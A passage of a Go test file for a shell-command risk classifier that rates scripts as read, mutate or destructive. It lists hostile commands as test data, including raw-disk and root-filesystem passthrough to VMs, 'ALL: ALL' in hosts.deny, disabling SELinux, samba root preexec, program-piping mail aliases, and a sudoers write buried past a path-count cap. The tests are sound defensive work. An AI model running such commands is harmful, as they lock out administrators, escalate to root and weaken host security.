		`qm set 100 -scsi1 /dev/sda`, `qm create 200 --virtio0 /dev/nvme0n1`, `qm set 100 --sata2=/dev/sdb`,
		`pct set 100 -dev0 /dev/sda`, `pct set 100 -mp0 /,mp=/host`, `pct set 100 --mp1 /etc,mp=/e`,
		`qm set 100 --scsi1 "$d"`, `virsh attach-disk vm /dev/sda vdb`, `virsh define /tmp/vm.xml`,
		`virsh create /dev/stdin`, `virsh attach-device vm /tmp/dev.xml`,
	))
	runExactHosts(t, p, []exactCase{
		{"storage disk", `qm set 100 --scsi1 local-lvm:32`, TierMutate},
		{"memory", `qm set 100 --memory "$m"`, TierMutate},
		{"data mount", `pct set 100 -mp0 /srv/data,mp=/data`, TierMutate},
		{"image disk", `virsh attach-disk vm /var/lib/libvirt/images/x.qcow2 vdb`, TierMutate},
		{"operator definition", `virsh define /etc/libvirt/qemu/vm.xml`, TierMutate},
		{"list", `qm list`, TierRead},
	})
}

// TestBlindSpotMoreRootReadFiles: files root reads as commands or as the
// rules of who gets in, written by any program, were tier 2: TCP
// wrappers (a spawn runs as root, ALL: ALL cuts SSH off), rc.conf and
// conf.d (shell sourced at boot), inittab, /etc/default and
// /etc/sysconfig (shell fragments init scripts source), modules loaded at
// boot, SELinux's next mode, samba's root preexec, inetd and xinetd
// services, and mail aliases piping to a program.
func TestBlindSpotMoreRootReadFiles(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`echo 'ALL: ALL' >> /etc/hosts.deny`, `echo 'sshd: ALL: spawn (id)' >> /etc/hosts.allow`,
		`echo 'x_enable=YES' >> /etc/rc.conf`, `tee -a /etc/rc.conf.local < /tmp/x`, `cp /tmp/x /etc/conf.d/sshd`,
		`echo x >> /etc/inittab`, `echo 'DOCKER_OPTS=x' > /etc/default/docker`, `cp /tmp/x /etc/sysconfig/sshd`,
		`echo x >> /etc/modules`, `echo x > /etc/modules-load.d/x.conf`, `echo SELINUX=disabled > /etc/selinux/config`,
		`echo 'root preexec = /tmp/x' >> /etc/samba/smb.conf`, `cp /tmp/x /etc/xinetd.d/x`, `echo x >> /etc/inetd.conf`,
		`echo 'x: |/tmp/x' >> /etc/aliases`, `cd /etc/default && echo x > ssh`,
	))
	runExactHosts(t, p, []exactCase{
		{"motd", `echo hi >> /etc/motd`, TierMutate},
		{"nginx conf", `echo x > /etc/nginx/conf.d/x.conf`, TierMutate},
		{"read hosts.deny", `cat /etc/hosts.deny`, TierRead},
		{"load profile", `apparmor_parser -r /etc/apparmor.d/x`, TierMutate},
	})
}

// TestRelativeChangesPastTheWordCap: past maxRelWords relative names a
// command changes, the names are no longer all kept, and a sensitive one
// after them is not lost: with a cd in the input, its relative paths are
// unresolved (tier 3). Without a cd, the same writes are ordinary ones.
// The same words fill the cap of the names checked for the watchdog too
// (pathWord), which says the same: the outcome, not which cap, is held.
func TestRelativeChangesPastTheWordCap(t *testing.T) {
	p := testPolicy(t)
	var b strings.Builder
	for i := range maxRelWords + 10 {
		fmt.Fprintf(&b, "echo x > f%d\n", i)
	}
	writes := b.String()
	for _, h := range []string{"", "db1"} {
		v := p.Evaluate(Input{Interpreter: "bash", Script: "cd /etc\n" + writes + "echo x >> sudoers\n", Host: h})
		if v.Tier != TierDestructive || !strings.Contains(v.Reason, "too many relative paths") {
			t.Errorf("host %q: a sudoers write after %d relative writes: %v", h, maxRelWords+10, v)
		}
		if v := p.Evaluate(Input{Interpreter: "bash", Script: "cd /srv/app\n" + writes[:strings.Index(writes, "f100\n")+5], Host: h}); v.Tier != TierMutate {
			t.Errorf("host %q: a few project writes: %v", h, v)
		}
	}
}
